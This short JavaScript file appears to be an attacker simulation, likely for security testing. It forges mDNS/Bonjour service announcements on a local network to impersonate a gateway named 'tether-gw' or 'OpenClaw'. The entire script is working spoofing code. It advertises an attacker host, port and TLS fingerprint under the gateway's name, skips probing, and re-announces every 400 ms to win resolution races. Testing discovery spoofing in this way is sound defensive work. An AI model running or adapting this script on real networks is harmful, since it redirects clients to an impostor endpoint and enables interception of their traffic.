// An attacker on the LAN (the CLI cannot do this): answers for a gateway's instance name with its own
// host, port and fingerprint, without probing, re-announcing often so it wins "last packet wins" races.
// Env: MDNS_IF (this host's address), NAME, PORT, FP (gatewayTlsSha256), TYPES (comma-separated).
import { Bonjour } from 'bonjour-service';
const b = new Bonjour({ interface: process.env.MDNS_IF, bind: '0.0.0.0' }, () => {});
b.server.mdns.on('error', () => {});
b.server.mdns.on('warning', () => {});
const name = process.env.NAME ?? 'tt-gw';
const types = (process.env.TYPES ?? 'tether-gw').split(',');
const services = types.map((type) =>
  b.publish({ name: type === 'openclaw-gw' ? `${name} (OpenClaw)` : name, type, port: Number(process.env.PORT ?? 6666), host: 'attacker.local', probe: false, disableIPv6: true,
    txt: { role: 'gateway', transport: 'gateway', displayName: name, gatewayTls: '1', gatewayTlsSha256: process.env.FP ?? 'ee'.repeat(32), protocol: '4' } }),
);
console.log('forging');
// Re-announce often (no goodbyes: an attacker wants to be seen, not to leave).
setInterval(() => { for (const svc of services) { try { b.server.mdns.respond(svc.records(), () => {}); } catch {} } }, 400);
